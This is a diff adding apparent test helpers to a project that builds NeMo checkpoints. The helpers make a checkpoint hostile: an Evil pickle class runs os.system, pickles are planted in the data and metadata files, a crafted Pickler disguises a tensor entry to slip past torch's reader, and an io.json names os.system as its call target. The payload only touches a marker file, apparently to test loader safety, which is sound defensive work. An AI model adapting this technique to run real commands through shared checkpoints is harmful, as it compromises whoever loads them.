@@ -1,14 +1,20 @@
 """NeMo checkpoints put together without NeMo: torch's own writer, and the tensors that Megatron would have."""
 
+import io
 import json
+import os
+import pickle
 import shutil
 import warnings
 from pathlib import Path
+from typing import Any
 
 import torch
 import torch.distributed.checkpoint as dcp
 import yaml
 from safetensors.torch import load_file
+from torch.distributed.checkpoint.filesystem import _StorageInfo
+from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex
 
 from nemo_qwen_hidden import demo
 from nemo_qwen_hidden.checkpoint.architecture import read_architecture
@@ -114,3 +120,52 @@ def _context(huggingface: Path) -> dict[str, object]:
             "pretrained_model_name": "nemo_tokenizer",
         },
     }
+
+
+class Evil:
+    """A pickle that makes a file, were it loaded as one."""
+
+    def __init__(self, file: Path) -> None:
+        self.file = file
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (f"touch '{self.file}'",)
+
+
+def append_evil(weights: Path, executed: Path) -> _StorageInfo:
+    """Where in the file of tensors a pickle then is that makes the file ``executed``."""
+    evil = io.BytesIO()
+    torch.save(Evil(executed), evil)
+    (data,) = weights.glob("*.distcp")
+    place = _StorageInfo(data.name, data.stat().st_size, len(evil.getvalue()))
+    data.write_bytes(data.read_bytes() + evil.getvalue())
+    return place
+
+
+def make_hostile(nemo: Path, executed: Path) -> str:
+    """Puts pickles that make the file ``executed`` wherever torch, Megatron or NeMo unpickle something of a checkpoint;
+    returns the name of a tensor that torch's reader takes for such a one.
+
+    ``.metadata`` names nothing but classes of torch's format: an instance of the class of tensors is given another
+    class by the state of its slots, so that its bytes are an object's.
+    """
+    weights = nemo / "weights"
+    metadata = pickle.loads((weights / ".metadata").read_bytes())
+    name = next(each for each in metadata.state_dict_metadata if each.endswith("final_layernorm.weight"))
+    disguised = metadata.state_dict_metadata[name]
+    metadata.storage_data[MetadataIndex(name)] = append_evil(weights, executed)
+
+    class Pickler(pickle._Pickler):  # type: ignore[name-defined]
+        def save(self, obj: object, save_persistent_id: bool = True) -> None:
+            super().save(obj, save_persistent_id)
+            if obj is disguised and obj.__dict__:
+                super().save((None, {"__class__": BytesStorageMetadata}))
+                self.write(pickle.BUILD)
+
+    with open(weights / ".metadata", "wb") as file:
+        Pickler(file, 4).dump(metadata)
+    for other in ("common.pt", "__0.metadata"):
+        (weights / other).write_bytes(pickle.dumps(Evil(executed)))
+    call = {"_target_": "os.system", "_args_": [f"touch '{executed}'"], "_call_": True}
+    (nemo / "context" / "io.json").write_text(json.dumps(call))
+    return name
